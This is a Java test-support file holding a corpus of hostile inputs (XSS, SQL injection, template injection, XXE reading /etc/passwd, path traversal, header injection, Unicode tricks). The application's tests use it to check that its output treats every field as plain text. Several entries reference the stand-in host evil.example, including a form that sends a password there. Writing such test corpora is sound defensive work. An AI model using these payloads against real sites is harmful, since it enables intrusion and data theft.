package org.projectdesk.testsupport;

import java.util.List;

/**
 * The hostile input corpus: texts an attacker types into every field of an entry (through the
 * form's service and the import), which every public page, feed, API answer, PDF and IATI file must
 * show as plain text. Each marks itself with {@code 1337} where it would compute something
 * ({@code 7*191}), so a page showing a bare {@code 1337} evaluated it.
 */
public final class HostilePayloads {

    /** A megabyte of text, for the fields' length limits. */
    public static final String ONE_MEGABYTE = "A".repeat(1024 * 1024);

    public static final List<String> ALL = List.of(
            "<script>window.pwned=1337</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "</script><script>window.pwned=1337</script>",
            "<!--<script>",
            "<!--",
            "-->",
            "]]><![CDATA[<script>window.pwned=1337</script>",
            "<img src=x onerror=window.pwned=1337>",
            "<svg onload=window.pwned=1337>",
            "<svg><script>window.pwned=1337</script></svg>",
            "<body onload=window.pwned=1337>",
            "<iframe src=\"javascript:window.pwned=1337\"></iframe>",
            "<a href=\"javascript:window.pwned=1337\">click</a>",
            "<div style=\"background:url(javascript:window.pwned=1337)\">x</div>",
            "\" onmouseover=\"window.pwned=1337\" x=\"",
            "' onfocus='window.pwned=1337' autofocus='",
            "\"><script>window.pwned=1337</script>",
            "'><img src=x onerror=window.pwned=1337>",
            "javascript:window.pwned=1337",
            "JaVaScRiPt:window.pwned=1337",
            "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTMzNzwvc2NyaXB0Pg==",
            "vbscript:msgbox(1337)",
            "#{7*191}",
            "${7*191}",
            "#{request.getSession(true).invalidate()}",
            "${facesContext.externalContext.redirect('http://evil.example')}",
            "{{7*191}}",
            "<%= 7*191 %>",
            "'; DROP TABLE project_entry; --",
            "\" OR \"1\"=\"1",
            "' OR 1=1 --",
            "1; SELECT pg_sleep(10)",
            "admin'--",
            "' UNION SELECT username, password_hash FROM user_account --",
            "\u202Egnp.exe",
            "\u202Dleft\u202Cright\u2066isolate\u2069",
            "\u200F\u200E\u061Cmarks",
            "line\u2028separator\u2029paragraph",
            "tab\tnew\nline\rreturn",
            "nul\u0000byte",
            "bell\u0007escape\u001B[31mred",
            "del\u007Fc1\u0085\u009B",
            "\uFEFFbom",
            "𝕏 \uD83D\uDE00 emoji",
            "&lt;script&gt;window.pwned=1337&lt;/script&gt;",
            "&amp;&quot;&#x3C;&#60;",
            "%3Cscript%3Ewindow.pwned=1337%3C/script%3E",
            "\\u003cscript\\u003ewindow.pwned=1337",
            "{\"@context\": \"https://schema.org\", \"@type\": \"Hack\"}",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "<![CDATA[ x ]]>",
            "99999999999999999999999999999999999999999999999999",
            "1e999999999",
            "-0.0000000000000000000000000000000000001",
            "NaN",
            "../../../../etc/passwd",
            "http://evil.example/\r\nSet-Cookie: pwned=1337",
            "<style>body{display:none}</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\">",
            "<base href=\"http://evil.example/\">",
            "<form action=http://evil.example><input name=password></form>",
            "Ω≈ç√∫ Ёлка été — “quotes” ‘single’");

    private HostilePayloads() {
    }
}
